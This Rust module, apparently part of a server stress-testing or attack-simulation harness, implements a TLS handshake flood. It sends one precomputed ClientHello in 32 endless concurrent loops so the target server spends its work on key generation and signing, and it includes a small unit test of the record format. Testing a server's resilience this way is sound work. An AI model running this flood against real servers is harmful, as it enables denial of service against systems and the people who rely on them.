//! A flood of TLS handshakes.
//!
//! The attackers send one and the same `ClientHello` each time and compute nothing, while the server makes keys and
//! signs for each: the cheapest attack.

use std::rc::Rc;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;
use tokio_rustls::rustls::pki_types::ServerName;
use tokio_rustls::rustls::{ClientConnection, RootCertStore};

use super::line::{PAUSE, connect};
use super::{Attack, at_once};
use crate::attacks::addresses::ATTACKERS;
use crate::stream::{SERVER_NAME, trusting};

const AT_ONCE: usize = 32;

/// Begins handshakes, waits for the server's part, and leaves.
pub(super) async fn handshakes(attack: &Rc<Attack>) {
    let hello = hello().expect("a client without certificates can say hello");
    at_once(attack, AT_ONCE, |attack, _| {
        let hello = hello.clone();
        async move {
            loop {
                let mut answer = [0; 4 * 1024];
                let mut stream = match connect(ATTACKERS, attack.orders.address).await {
                    Ok(stream) => stream,
                    Err(_) => {
                        attack.deeds.count("failed connections");
                        sleep(PAUSE).await;
                        continue;
                    }
                };
                attack.deeds.count("connections");
                let read = match stream.write_all(&hello).await {
                    Ok(()) => stream.read(&mut answer).await,
                    Err(error) => Err(error),
                };
                attack.deeds.count(if matches!(read, Ok(1..)) { "answered" } else { "not answered" });
            }
        }
    })
    .await;
}

/// The first message of a handshake.
fn hello() -> Result<Vec<u8>> {
    let trust = trusting(RootCertStore::empty())?;
    let mut connection = ClientConnection::new(trust, ServerName::try_from(SERVER_NAME)?)?;
    let mut bytes = Vec::new();
    while connection.wants_write() {
        connection.write_tls(&mut bytes)?;
    }
    Ok(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hello_is_a_handshake_record() {
        let hello = hello().expect("a hello");
        assert_eq!((hello[0], hello[5]), (22, 1), "RFC 8446, sections 5.1 and 4");
        let length = usize::from(u16::from_be_bytes([hello[3], hello[4]]));
        assert_eq!(hello.len(), 5 + length);
    }
}
